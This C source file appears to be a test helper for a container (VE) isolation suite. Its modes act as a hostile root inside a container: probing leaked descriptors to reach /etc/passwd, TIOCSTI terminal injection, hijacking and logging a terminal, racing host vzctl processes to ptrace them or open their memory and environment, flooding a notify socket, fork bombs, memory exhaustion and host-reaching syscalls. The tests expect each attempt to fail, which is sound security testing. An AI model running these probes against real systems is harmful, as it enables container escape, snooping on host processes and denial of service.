/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What a hostile root would run in a VE; static, so that it runs in any. Each
 * mode tries one thing and prints what it gained, a line each, so that silence
 * (or the errno) is what the tests want to see.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* Descriptors beyond 0, 1, 2, and whatever is a directory among those. */
static int mode_fds(char **arg)
{
	char path[64], to[4096];
	struct stat st;
	ssize_t n;

	for (int fd = 0; fd < 4096; fd++) {
		if (fstat(fd, &st) || (fd < 3 && !S_ISDIR(st.st_mode)))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, to, sizeof(to) - 1);
		to[n < 0 ? 0 : n] = 0;
		printf("fd %d %s\n", fd, to);
		if (openat(fd, "../../../../../../etc/passwd", O_RDONLY) >= 0 &&
		    S_ISDIR(st.st_mode))
			printf("fd %d leads out\n", fd);
	}
	return 0;
}

static int mode_sti(char **arg)
{
	for (int fd = 0; fd < 3; fd++)
		if (!ioctl(fd, TIOCSTI, "x") ||
		    !syscall(SYS_ioctl, fd, 1ul << 32 | TIOCSTI, "x"))
			printf("typed into %d\n", fd);
	return 0;
}

/* Make the terminal at 0 ours, then leave a child with it behind. */
static int mode_keep(char **arg)
{
	char buf[256];
	ssize_t n;
	int out;

	if (fork())
		return 0;
	setsid();
	signal(SIGHUP, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	ioctl(0, TIOCSCTTY, 1);
	out = open(arg[0], O_WRONLY | O_CREAT | O_APPEND, 0600);
	alarm(15);
	while ((n = read(0, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n)
			return 1;
	return 0;
}

static bool same_inode(const char *path, ino_t ino)
{
	struct stat st;

	return !stat(path, &st) && st.st_ino == ino;
}

/*
 * By now one of the VE's own: it came to its execve, or left its memory, between
 * our look at its program and what we tried.
 */
static bool is_ours(int pid, ino_t ino)
{
	char path[64], line[256];
	bool memory = false;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (!access(path, F_OK) && !same_inode(path, ino))
		return true;
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f))
		memory |= !strncmp(line, "VmSize", 6);
	if (f)
		fclose(f);
	return !memory;
}

static void gained(const char *what, int pid, ino_t ino)
{
	if (!is_ours(pid, ino))
		printf("%s %d\n", what, pid);
}

static void try_open(const char *file, int flags, const char *what, int pid, ino_t ino)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	fd = open(path, flags);
	if (fd < 0)
		return;
	gained(what, pid, ino);
	close(fd);
}

/* One process that may be the host's, on its way in: can we get at it? */
static void try_process(int pid, ino_t ino)
{
	char path[64];
	bool host;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	host = same_inode(path, ino);
	if (host) {
		printf("saw the program of %d\n", pid);
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno == ETXTBSY)
			printf("could write the program of %d\n", pid);
	}
	/* Not to be looked at is as it should be, unless the rest can be. */
	if (!host && !access(path, F_OK))
		return;
	try_open("mem", O_RDWR, "opened the memory of", pid, ino);
	try_open("fd", O_RDONLY | O_DIRECTORY, "opened the descriptors of", pid, ino);
	try_open("environ", O_RDONLY, "opened the environment of", pid, ino);
	if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		gained("traced", pid, ino);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static bool is_gone(int pid)
{
	char path[64], state = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	f = fopen(path, "r");
	if (!f)
		return true;
	if (fscanf(f, "%*d (%*[^)]) %c", &state) != 1)
		state = 'X';
	fclose(f);
	return state == 'Z' || state == 'X';
}

/* watch SECONDS INODE: look at every process that comes; INODE is the host's vzctl. */
static int mode_watch(char **arg)
{
	time_t end = time(NULL) + atoi(arg[0]);
	ino_t ino = strtoul(arg[1], NULL, 10);
	int self = getpid();

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("watching");
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);

			if (pid > 0 && pid != self && !is_gone(pid))
				try_process(pid, ino);
		}
		closedir(d);
	}
	puts("done");
	return 0;
}

/* notify PATH COUNT: lies, rubbish and descriptors for whoever listens. */
static int mode_notify(char **arg)
{
	static char big[60000];
	char control[CMSG_SPACE(sizeof(int) * 8)] = { 0 };
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	struct iovec io = { big, sizeof(big) };
	struct msghdr m = { &un, sizeof(un), &io, 1, control, sizeof(control) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	snprintf(un.sun_path, sizeof(un.sun_path), "%s", arg[0]);
	memset(big, 'A', sizeof(big));
	memcpy(big, "READY=1\n", 8);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int) * 8);
	for (int i = atoi(arg[1]); i > 0; i--) {
		io.iov_len = i % 3 ? i % sizeof(big) : 0;
		if (sendmsg(fd, &m, MSG_DONTWAIT) < 0 && errno != EAGAIN)
			return 1;
	}
	return 0;
}

/* ignore: process that no signal but SIGKILL ends. */
static int mode_ignore(char **arg)
{
	for (int s = 1; s < 65; s++)
		signal(s, SIG_IGN);
	for (;;)
		pause();
	return 0;
}

/*
 * forks N: as many processes as there may be, then that many refused in all;
 * prints how many it saw refused.
 */
static int mode_forks(char **arg)
{
	int want = atoi(arg[0]), refused = 0, n = 0;
	static pid_t pids[100000];

	while (refused < want && n < 100000) {
		pid_t pid = fork();

		if (!pid) {
			pause();
			_exit(0);
		}
		if (pid > 0)
			pids[n++] = pid;
		else if (errno == EAGAIN)
			refused++;
		else
			return 1;
	}
	while (n)
		kill(pids[--n], SIGKILL);
	while (wait(NULL) > 0)
		;
	printf("%d\n", refused);
	return 0;
}

/* eat NAME: memory, under that name, until something puts an end to it. */
static int mode_eat(char **arg)
{
	prctl(PR_SET_NAME, arg[0]);
	for (;;) {
		char *p = malloc(1 << 20);

		if (p)
			memset(p, 1, 1 << 20);
	}
	return 0;
}

static int report(const char *what, long r)
{
	if (r >= 0)
		printf("%s worked\n", what);
	return 0;
}

/* Calls that would reach the host. */
static int mode_calls(char **arg)
{
	struct {
		unsigned int bytes;
		int type;
		char handle[128];
	} fh = { 8, 1, { 2 } };

	report("keyctl", syscall(SYS_keyctl, 0, -3, 0));
	report("bpf", syscall(SYS_bpf, 0, 0, 0));
	report("syslog", syscall(SYS_syslog, 3, arg, 10));
	report("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	report("delete_module", syscall(SYS_delete_module, "no_such_module", 0));
	report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &fh, 0));
	report("io_uring_setup", syscall(SYS_io_uring_setup, 1, arg));
	report("swapoff", syscall(SYS_swapoff, "/swapfile"));
	report("iopl", syscall(SYS_iopl, 3));
	report("settimeofday",
	       syscall(SYS_settimeofday, &(struct timeval){ 1, 0 }, NULL));
	report("unshare -m; setns of 1",
	       syscall(SYS_setns, open("/proc/1/ns/user", O_RDONLY), 0));
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char **arg);
	int args;
} modes[] = {
	{ "fds", mode_fds, 0 },	      { "sti", mode_sti, 0 },
	{ "keep", mode_keep, 1 },     { "watch", mode_watch, 2 },
	{ "notify", mode_notify, 2 }, { "calls", mode_calls, 0 },
	{ "ignore", mode_ignore, 0 }, { "forks", mode_forks, 1 },
	{ "eat", mode_eat, 1 },
};

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/');

	/* In the place of the VE's shell: never does what it is told to. */
	if (!strcmp(name ? name + 1 : argv[0], "sh"))
		return mode_ignore(argv);
	for (size_t i = 0; argc > 1 && i < sizeof(modes) / sizeof(*modes); i++)
		if (!strcmp(argv[1], modes[i].name) && argc == 2 + modes[i].args)
			return modes[i].run(argv + 2);
	fprintf(stderr, "usage: hostile MODE [ARG...]\n");
	return 2;
}
